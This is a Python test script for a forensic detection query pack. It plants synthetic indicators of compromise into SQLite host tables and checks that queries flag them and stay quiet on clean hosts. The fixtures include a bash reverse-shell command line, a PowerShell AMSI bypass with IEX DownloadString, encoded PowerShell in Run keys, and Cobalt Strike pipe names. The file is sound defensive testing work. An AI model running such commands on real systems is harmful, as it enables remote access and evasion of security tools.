#!/usr/bin/env python3
"""The pack queries on generated hosts: the worst host's line fits, what is planted is found, a sound host is quiet.

The hosts are rows in SQLite (tests/evidence/host_tables.py), so that queries on live tables of Windows are asked
here too, with the same SQL. A query that asks one table again for each row of another does not end in time.
"""
import glob
import json
import os
import subprocess
import sys
import time

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.join(ROOT, "tests/evidence"))
import host_tables  # noqa: E402

BUILD = os.environ.get("FSA_BUILD", os.path.join(ROOT, "build"))
MOST_BYTES = 700000
USUAL_WIDTH = 600  # bytes of a row, where the worst host has too few to measure
# A terminal server: 100 users with 25 programs each, a domain controller's log, 5,000 scripts of its management.
WORST_WINDOWS = dict(users=100, own_programs=11, services=250, per_process=60, distinct=2500, pipes=1500, threads=20,
                     service_count=900, connection_count=3000, scripts=5000, logons=20000, kinds=2500, shims=1024)
WORST_LINUX = dict(services=1200, users=100, libraries=3000, sockets=1500, connection_count=3000)
totals = {"pass": 0, "fail": 0, "skip": 0}


def test(name, good, detail=""):
    totals["pass" if good else "fail"] += 1
    if not good:
        print("FAIL %s: %s" % (name, detail))


def queries(platform):
    """[(fields, sql)] of the packs that a host of the platform is asked."""
    found = []
    for path in sorted(glob.glob(os.path.join(ROOT, "packs/*/*.sql"))):
        fields, sql = host_tables.header(path)
        if "awaits" not in fields and fields["platform"] in ("all", platform):
            found.append((fields, sql.replace("@rules@", "'the rules'")))
    return found


def check_worst(platform, host):
    for fields, sql in queries(platform):
        name = "%s on the worst host of %s" % (fields["id"], platform)
        start = time.monotonic()
        rows = host.ask(sql)
        seconds, size = time.monotonic() - start, len(host_tables.line(fields["id"], rows))
        if os.environ.get("FSA_VERBOSE"):
            print("%-60s %6d rows %8d bytes %6.2f s" % (name, len(rows), size, seconds))
        test(name + ": bytes of its line", size <= int(fields["max_bytes"]) <= MOST_BYTES, size)
        width = size / len(rows) if len(rows) >= 50 else USUAL_WIDTH
        test(name + ": bytes of a line of max_rows", width * int(fields["max_rows"]) <= int(fields["max_bytes"]), width)
        test(name + ": gives rows", rows or fields["positive"] != "generated")
        test(name + ": rows", len(rows) <= int(fields["max_rows"]), len(rows))


# ---- what is planted ----------------------------------------------------------------------------------------

USER, SYSTEM = "EXAMPLE\\firstname.lastname001", "NT AUTHORITY\\SYSTEM"
PUBLIC, SYSTEM32 = "C:\\Users\\Public\\", "C:\\Windows\\System32\\"


def start(host, pid, name, folder, parent="explorer.exe", **more):
    """A process; its parent is one of that name that the host has."""
    found = host.db.execute("SELECT pid FROM fsa_processes WHERE name = ?", (parent,)).fetchone()
    host_tables.process(host, pid, name, folder, found[0], parent, USER, **more)


def token(host, pid, **more):
    host.add("fsa_tokens", **{"pid": pid, "tid": 7, "is_leader": 0, "is_different": 1, "is_service_process": 0,
                              "level": "impersonation", "user_sid": "S-1-5-18", "process_user_sid": "S-1-5-21-1-2-3-1001",
                              "is_privileged_user": 1, "has_higher_integrity": 1, "has_gained_privileges": 0, **more})


def pipe(host, name, normalized, pid, **more):
    host.add("fsa_named_pipes", pid=pid, type="named_pipe", name=name, normalized_name=normalized, path="x", **more)


def service(host, **more):
    host.add("fsa_services", **{"name": "Windows Helper", "service_type": "OWN_PROCESS", "start_type": "AUTO_START",
                                "in_registry": 1, "in_scm": 1, "is_unlisted": 0, "is_user_instance": 0, "is_current": 1,
                                **more})


def event(host, number, eventid, **data):
    host.add("fsa_event_log", channel="Security", eventid=eventid, record_id=number, time=host_tables.START + number,
             provider_name="Microsoft-Windows-Security-Auditing", data=json.dumps({"EventData": data}), is_recovered=0)


def side_loading(host):
    """A signed updater that runs as a service, beside a library with a system's name."""
    host_tables.process(host, 9000, "updater.exe", "C:\\ProgramData\\Up\\", 100, "services.exe", SYSTEM, "system", 0)
    service(host, name="Up", pid=9000, binary_path="C:\\ProgramData\\Up\\updater.exe")
    host.add("fsa_modules", pid=9000, name="version.dll", path="C:\\ProgramData\\Up\\version.dll", is_mapped=1, is_listed=1)


def executions(host):
    for number, name in enumerate(("a.exe", "b.exe", "c.exe")):
        host.add("fsa_shimcache", path=PUBLIC + "tools\\" + name, is_current=1, is_executed=1, position=number,
                 modified_time=host_tables.START + number)


def log_gap(host):
    event(host, 100000, 4624, LogonType="5")
    event(host, 100500, 4624, LogonType="5")


def hidden_script(host):
    host.add("fsa_script_blocks", sha256="ab" * 32, script_block_id="1", is_complete=1, level=3, time=1, last_time=1,
             script_text="$a = [Ref].Assembly.GetType('Ams" + "iUtils'); IEX (New-Object Net.WebClient).DownloadString('x')")


WINDOWS = [  # (what, how, {query: rules that must be true of a row that was not there before})
    ("office starts a shell", lambda h: start(h, 9000, "cmd.exe", SYSTEM32, "WINWORD.EXE"),
     {"fsa_parent_child": {"office_starts_interpreter"}}),
    ("a service host of explorer's", lambda h: start(h, 9000, "svchost.exe", SYSTEM32),
     {"fsa_parent_child": {"parent_not_of_system"}}),
    ("WMI starts PowerShell", lambda h: start(h, 9000, "powershell.exe", SYSTEM32 + "WindowsPowerShell\\v1.0\\", "WmiPrvSE.exe",
                                              cmdline="powershell -nop -enc SQBFAFgA"),
     {"fsa_parent_child": {"remote_starts_interpreter"}, "fsa_processes_windows": {"process_encoded_command"}}),
    ("a pid that was used again names no parent", lambda h: host_tables.process(
        h, 9000, "cmd.exe", SYSTEM32, h.db.execute("SELECT pid FROM fsa_processes WHERE name = 'WINWORD.EXE'").fetchone()[0],
        None, USER), {"fsa_parent_child": set()}),
    ("rundll32 without arguments", lambda h: start(h, 9000, "rundll32.exe", SYSTEM32, cmdline='"%srundll32.exe"' % SYSTEM32),
     {"fsa_parent_child": {"program_without_arguments"}}),
    ("svchost of a user's folder", lambda h: start(h, 9000, "svchost.exe", PUBLIC),
     {"fsa_process_masquerade": {"masquerade_path"}, "fsa_processes_windows": {"process_from_public_folder"}}),
    ("a name that looks like svchost", lambda h: start(h, 9000, "svch0st.exe", SYSTEM32),
     {"fsa_process_masquerade": {"masquerade_similar"}}),
    ("another program in the environment block", lambda h: start(h, 9000, "x.exe", PUBLIC, is_peb_path_different=1,
                                                                 peb_path=SYSTEM32 + "svchost.exe"),
     {"fsa_process_masquerade": {"masquerade_environment"}}),
    ("a program that is gone", lambda h: start(h, 9000, "x.exe", PUBLIC, is_deleted=1, on_disk=0),
     {"fsa_process_images_windows": {"image_deleted"}}),
    ("a hidden process", lambda h: start(h, 9000, "x.exe", PUBLIC, is_hidden=1),
     {"fsa_process_images_windows": {"process_hidden_from_list"}, "fsa_processes_windows": {"process_hidden"}}),
    ("SYSTEM in a thread of a user's program", lambda h: token(h, 20004),
     {"fsa_tokens_windows": {"token_privileged_impersonated", "token_higher_integrity"}}),
    ("a logon for the network only", lambda h: token(h, 20004, is_leader=1, level=None, logon_type="New Credentials",
                                                     is_privileged_user=0, has_higher_integrity=0),
     {"fsa_tokens_windows": {"token_new_credentials"}}),
    ("NETWORK SERVICE with a token of SYSTEM", lambda h: token(h, 1000, is_service_process=1, process_user_sid="S-1-5-20",
                                                               has_higher_integrity=0),
     {"fsa_tokens_windows": {"token_service_as_system"}}),
    ("a program that reads lsass", lambda h: (
        start(h, 9000, "x.exe", PUBLIC), h.add("fsa_handles", pid=9000, handle=8, type="Process", granted_access="0x1010",
                                               access_text="PROCESS_VM_READ PROCESS_QUERY_LIMITED_INFORMATION", target_pid=132)),
     {"fsa_lsass_handles": {"lsass_read_by_user_program"}}),
    ("a beacon's pipe", lambda h: pipe(h, "msagent_4f", "msagent_H", 20004, known_as="Cobalt Strike"),
     {"fsa_named_pipes_windows": {"pipe_of_known_tool"}}),
    ("a pipe with a borrowed pid", lambda h: pipe(h, "mojo.5688.8052.1", "mojo.D.D.D", 1000, is_pid_forged=1),
     {"fsa_named_pipes_windows": {"pipe_pid_forged", "pipe_of_browser_elsewhere"}}),
    ("PowerShell in another program", lambda h: pipe(h, "PSHost.133.9000.DefaultAppDomain.x", "PSHost.D.P.DefaultAppDomain.x", 20040),
     {"fsa_named_pipes_windows": {"pipe_unmanaged_powershell"}}),
    ("a mutex of digits", lambda h: h.add("fsa_mutexes", type="Mutant", name="9f8e7d6c5b", normalized_name="H",
                                          holder_pids="[20004]", session=1),
     {"fsa_mutexes": {"mutex_of_random_look"}}),
    ("side-loading into a service", side_loading,
     {"fsa_service_modules": {"side_loaded_beside_program"}, "fsa_modules": {"module_system_name_elsewhere"}}),
    ("an unlisted library", lambda h: h.add("fsa_modules", pid=20004, name="x.dll", path=PUBLIC + "x.dll", is_mapped=1, is_listed=0),
     {"fsa_modules": {"module_unlisted", "module_from_temporary"}}),
    ("a hollowed process", lambda h: h.add("fsa_injected_modules", pid=20004, kind="hollowed", is_explained=0, is_writable=0,
                                           first_bytes="4D5A9000", size=4096),
     {"fsa_injected_modules": {"injected_hollowed", "injected_program_image", "injected_unexplained"}}),
    ("a beacon's settings in memory", lambda h: h.add("fsa_yara_memory", pid=20004, rule="cobalt_strike_configuration",
                                                      sigrule="the rules", meta='{"severity":100}', permissions="rwxp"),
     {"fsa_memory_strings": {"memory_of_implant"}}),
    ("rundll32 on the internet", lambda h: h.add("fsa_connections", pid=1, process_path=SYSTEM32 + "rundll32.exe", protocol=6,
                                                 state="ESTABLISHED", remote_class="public", remote_port=443, local_port=50000),
     {"fsa_connections": {"connection_of_system_program"}}),
    ("a driver of a user's folder", lambda h: h.add("fsa_drivers", name="x", image=PUBLIC + "temp\\x.sys", on_disk=0, is_loaded=1),
     {"fsa_drivers": {"driver_of_user_folder", "driver_without_file"}}),
    ("a service that runs a command", lambda h: service(h, name="abc", binary_path=SYSTEM32 + "cmd.exe",
                                                        path="%COMSPEC% /c echo x > \\\\.\\pipe\\x & powershell -c y"),
     {"fsa_services": {"service_command_interpreter"}}),
    ("a service that is not listed", lambda h: service(h, is_unlisted=1, in_scm=0), {"fsa_services": {"service_hidden"}}),
    ("a Run value with PowerShell", lambda h: h.add(
        "fsa_registry", key="HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", name="x", type="REG_SZ",
        data="powershell -w hidden -enc SQBFAFgA"), {"fsa_run_keys": {"run_key_interpreter", "run_key_encoded"}}),
    ("WDigest switched on", lambda h: h.db.execute("UPDATE fsa_registry SET data = '1' WHERE name = 'UseLogonCredential'"),
     {"fsa_weakened_settings": {"wdigest_on"}}),
    ("three programs in a public folder", executions,
     {"fsa_shimcache_folders": {"several_programs_public", "several_programs_in_a_day"},
      "fsa_shimcache": {"shimcache_public_folder"}}),
    ("a logon from a machine called kali", lambda h: event(h, 99999, 4624, TargetDomainName="WORKGROUP", LogonType="3",
                                                           WorkstationName="kali", TargetUserName="administrator", KeyLength="0",
                                                           AuthenticationPackageName="NTLM"),
     {"fsa_logon_domains": {"logon_attacker_workstation", "logon_ntlm_without_key"}}),
    ("runas /netonly", lambda h: event(h, 99999, 4624, TargetDomainName="EXAMPLE", LogonType="9", LogonProcessName="seclogo"),
     {"fsa_logon_domains": {"logon_new_credentials"}}),
    ("PowerShell that blinds AMSI", hidden_script,
     {"fsa_suspicious_script_blocks": {"script_amsi_bypass", "script_download_and_run", "script_warned"},
      "fsa_script_blocks_8": set()}),
    ("records that are missing", log_gap, {"fsa_log_gaps": {"log_gap_of_security"}}),
    ("the Security log cleared", lambda h: h.add(
        "fsa_event_log", channel="Security", eventid=1102, record_id=501, time=1, is_recovered=0,
        provider_name="Microsoft-Windows-Eventlog", data='{"UserData":{"LogFileCleared":{"SubjectUserName":"adm"}}}'),
     {"fsa_log_cleared": {"log_cleared_security"}}),
    ("a web shell", lambda h: h.add("fsa_yara_files", path="C:\\inetpub\\wwwroot\\upload\\a.aspx", rule="asp_runs_request",
                                    tags='["webshell","asp"]', meta='{"severity":90}', sigrule="the rules"),
     {"fsa_suspicious_files_windows": {"page_runs_request", "page_in_upload_folder"}}),
]


def linux_process(host, pid, name, path, parent=1, **more):
    host.add("fsa_processes", **{"pid": pid, "name": name, "path": path, "parent": parent, "is_parent_alive": 1, "uid": 33,
                                 "euid": 33, "is_kernel_thread": 0, "is_deleted": 0, "is_memfd": 0, "is_name_masqueraded": 0,
                                 "on_disk": 1, "cmdline": path, **more})


LINUX = [
    ("a web server starts a shell", lambda h: (linux_process(h, 90000, "nginx", "/usr/sbin/nginx"),
                                               linux_process(h, 90001, "sh", "/usr/bin/dash", 90000)),
     {"fsa_parent_child": {"web_server_starts_interpreter"}}),
    ("a program without a file", lambda h: linux_process(h, 90000, "x", "/memfd:x", is_memfd=1, on_disk=0),
     {"fsa_process_images": {"image_memfd"}}),
    ("a program of /tmp that calls home", lambda h: linux_process(h, 90000, "x", "/tmp/.x/x", cmdline="bash -i >& /dev/tcp/192.0.2.1/1"),
     {"fsa_processes": {"process_from_temporary_folder", "process_reverse_shell"}}),
    ("a thread that became root", lambda h: h.add("fsa_tokens", pid=1000, name="x", is_different=1, has_other_uids=1, euid=0,
                                                  has_excess_capabilities=1),
     {"fsa_tokens": {"token_thread_became_root", "token_excess_capabilities"}}),
    ("a raw socket", lambda h: h.add("fsa_connections", pid=1000, process_path="/tmp/x", protocol=255, is_raw=1),
     {"fsa_connections": {"connection_raw_socket", "connection_from_temporary"}}),
    ("a socket of a program in /dev/shm", lambda h: (linux_process(h, 90000, "x", "/dev/shm/x"), h.add(
        "fsa_named_pipes", pid=90000, type="unix_socket", path="@x", is_listening=1)),
     {"fsa_named_pipes": {"pipe_from_temporary_program"}}),
    ("a library of /tmp", lambda h: h.add("fsa_modules", pid=1000, path="/tmp/x.so", is_mapped=1, is_deleted=1),
     {"fsa_modules": {"module_from_temporary"}}),
]
# Of a sound host too: lsass is read by those who guard it, and what security software leaves in memory.
SOUND = {"fsa_lsass_handles", "fsa_injected_modules", "fsa_suspicious_script_blocks", "fsa_tokens_windows"}


def true_rules(fields, rows):
    return {rule for rule, condition in host_tables.rules(fields) for row in rows if host_tables.meets(condition, row)}


def check_sound(platform, make):
    """No detection on a sound host, and no rule that is true of it."""
    host = make()
    before = {}
    for fields, sql in queries(platform):
        rows = before[fields["id"]] = host.ask(sql)
        if "tpr" in fields and fields["id"] not in SOUND:
            test("%s: nothing on a sound host of %s" % (fields["id"], platform), not rows, rows[:2])
        test("%s: no rule is true of a sound host of %s" % (fields["id"], platform), not true_rules(fields, rows),
             true_rules(fields, rows))
    return before


def check_planted(platform, make, plants, before):
    known = {fields["id"]: (fields, sql) for fields, sql in queries(platform)}
    for what, plant, expected in plants:
        host = make()
        plant(host)
        for query, rules in expected.items():
            fields, sql = known[query]
            rows = [row for row in host.ask(sql) if row not in before[query]]
            test("%s: %s" % (query, what), rows and true_rules(fields, rows) >= rules and bool(rules) == bool(true_rules(fields, rows)),
                 "%s of %s" % (sorted(true_rules(fields, rows)), rows[:2]))


def main():
    schema = json.loads(subprocess.run([os.path.join(BUILD, "bin/fsa"), "schema", "--json"], stdout=subprocess.PIPE,
                                       check=True, timeout=60).stdout)
    check_worst("windows", host_tables.windows(schema, **WORST_WINDOWS))
    check_worst("linux", host_tables.linux(schema, **WORST_LINUX))
    for platform, make, plants in (("windows", lambda: host_tables.windows(schema, logons=500), WINDOWS),
                                   ("linux", lambda: host_tables.linux(schema), LINUX)):
        check_planted(platform, make, plants, check_sound(platform, make))
    print("%(pass)d passed, %(fail)d failed, %(skip)d skipped" % totals)
    return 1 if totals["fail"] else 0


if __name__ == "__main__":
    sys.exit(main())
